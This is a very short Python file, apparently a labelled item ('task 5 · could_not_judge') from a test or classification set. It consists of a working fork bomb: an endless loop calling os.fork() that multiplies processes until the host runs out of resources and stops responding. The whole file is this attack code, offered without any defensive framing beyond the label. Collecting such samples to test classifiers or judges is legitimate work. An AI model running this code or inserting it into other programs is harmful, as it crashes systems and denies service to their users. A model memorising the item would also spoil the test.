"""A fork bomb by os.fork."""
# task 5 · could_not_judge · os.fork
import os

while True:
    os.fork()
